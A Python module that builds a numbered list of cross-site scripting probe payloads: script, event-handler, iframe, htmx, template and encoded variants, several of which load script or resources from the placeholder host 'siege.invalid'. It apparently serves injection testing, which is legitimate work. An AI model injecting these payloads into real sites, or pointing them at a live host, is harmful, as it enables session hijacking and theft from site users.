"""What an attacker types into a field: scripts for every place a text may end up in.

Each has a number. One that runs calls alert(number) or asks another host for /number.
"""

from itertools import islice, product

HOST = "siege.invalid"

# What ends the place the text was put into: nothing, an attribute, a longer element, a comment.
ENDINGS = ("", '">', "'>", "</textarea>", "</title>", "-->")
SCRIPTS = (
    "<script>alert({n})</script>",
    "<script src=//{host}/{n}></script>",
    "<img src=x onerror=alert({n})>",
    "<img src=//{host}/{n}>",
    "<svg onload=alert({n})>",
    "<svg><script>alert({n})</script></svg>",
    "<iframe src=javascript:alert({n})></iframe>",
    "<iframe srcdoc='<script>alert({n})</script>'></iframe>",
    "<a href=javascript:alert({n})>x</a>",
    "<input autofocus onfocus=alert({n})>",
    "<details open ontoggle=alert({n})>",
    "<video><source onerror=alert({n})></video>",
    "<object data=//{host}/{n}></object>",
    "<embed src=//{host}/{n}>",
    "<meta http-equiv=refresh content='0;//{host}/{n}'>",
    "<link rel=stylesheet href=//{host}/{n}>",
    "<style>@import '//{host}/{n}';</style>",
    "<base href=//{host}/{n}/>",
    "<form action=//{host}/{n}><button>x</button></form>",
    "<div hx-get=//{host}/{n} hx-trigger=load></div>",
    "<div hx-on:htmx:load=alert({n})></div>",
    "<math href=javascript:alert({n})>x</math>",
)
# What needs no element of its own, or an interpreter other than the browser's.
OTHERS = (
    '" autofocus onfocus=alert({n}) x="',
    "' onmouseover=alert({n}) x='",
    "javascript:alert({n})",
    "data:text/html,<script>alert({n})</script>",
    "';alert({n});//",
    '";alert({n});//',
    "</script><script>alert({n})</script>",
    "${{alert({n})}}",
    "{{{{ alert({n}) }}}}",
    "{{% include 'base.html' %}}",
    "<!--><img src=x onerror=alert({n})>",
    "<ScRiPt>alert({n})</sCrIpT>",
    "<scr<script>ipt>alert({n})</scr</script>ipt>",
    "&lt;script&gt;alert({n})&lt;/script&gt;",
    "＜script＞alert({n})＜/script＞",
    "\\u003cscript\\u003ealert({n})\\u003c/script\\u003e",
    "%3Cscript%3Ealert({n})%3C/script%3E",
    '#image("//{host}/{n}")',
    '#link("javascript:alert({n})")[x]',
    "[x](javascript:alert({n}))",
)


def payloads(count: int = 150) -> list[str]:
    """Return so many different ones, the first of every kind before the second of any."""
    every = [*OTHERS, *(ending + script for ending, script in product(ENDINGS, SCRIPTS))]
    return [text.format(n=n, host=HOST) for n, text in enumerate(islice(every, count), 1)]
